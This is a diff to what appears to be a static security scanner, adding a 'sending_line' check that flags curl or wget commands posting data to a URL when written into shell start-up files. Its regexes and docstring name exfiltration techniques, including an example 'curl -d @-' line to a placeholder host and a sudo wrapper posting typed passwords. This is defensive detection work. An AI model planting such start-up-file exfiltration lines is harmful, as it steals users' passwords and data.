@@ -25,7 +25,7 @@ from caplet._scan._shell_scripts import script_payload
 from caplet._scan._sink_egress import fixed_host
 from caplet._scan._sources import Source
 
-__all__ = ["MAX_NESTED_TEXT", "SHELL_STARTUP", "StartupSinks", "capable_finding"]
+__all__ = ["MAX_NESTED_TEXT", "SHELL_STARTUP", "StartupSinks", "capable_finding", "sending_line"]
 
 #: Rule families whose presence in Python source kept in a string makes running it a threat.
 #: Processes, ctypes, pickle or frames alone are not enough: test suites run
@@ -51,6 +51,31 @@ SHELL_STARTUP: Final = re2.compile(
     r"\.(?:bashrc|zshrc|bash_profile|profile|bash_completions?)\b|hooks[/\\]+(?:pre|post)-[a-z-]+$|"
     r"\.ssh[/\\]+rc$"
 )
+
+
+#: A downloader's options that send data (a file, a form, standard input): curl's ``-d``,
+#: ``-F``, ``-T`` (alone or last in a group, ``-sd @-``) and their long names, wget's
+#: ``--post-data``/``--post-file``.
+_CURL_SENDS: Final = re2.compile(
+    r"(?:^|\s)(?:-[a-zA-Z]*[dFT]|--data(?:-[a-z]+)?|--form(?:-string)?|--upload-file|--json)"
+    r"(?:[=\s@]|$)"
+)
+_WGET_SENDS: Final = re2.compile(r"(?:^|\s)--(?:post|body)-(?:data|file)(?:[=\s]|$)")
+_DOWNLOADER: Final = re2.compile(r"\b(curl|wget)\b")
+
+
+def sending_line(text: str) -> str | None:
+    """The first line of shell text that sends data to a URL with curl or wget (``printf
+    %s "$p" | curl -d @- https://host/c``): written into a shell's start-up file, every
+    shell sends (a ``sudo`` wrapper posting the typed password: blind31)."""
+    for line in text.split("\n")[:4096]:
+        program = _DOWNLOADER.search(line)
+        if program is None or "://" not in line:
+            continue
+        sends = _CURL_SENDS if program.group(1) == "curl" else _WGET_SENDS
+        if sends.search(line[program.end() :]) is not None:
+            return line.strip()[:120]
+    return None
 
 
 def _keyword(node: ast.Call, name: str) -> ast.expr | None:
@@ -259,6 +284,15 @@ class StartupSinks:
                 self._scan.emit(
                     "CPL-THR-015",
                     f"a shell start-up file written with {found[1][:80]!r}",
+                    node.lineno,
+                    node.col_offset,
+                )
+                return
+            sent = sending_line(value[:MAX_NESTED_TEXT]) if isinstance(value, str) else None
+            if sent is not None:
+                self._scan.emit(
+                    "CPL-THR-009",
+                    f"a shell start-up file written with {sent[:80]!r}, which sends data,",
                     node.lineno,
                     node.col_offset,
                 )
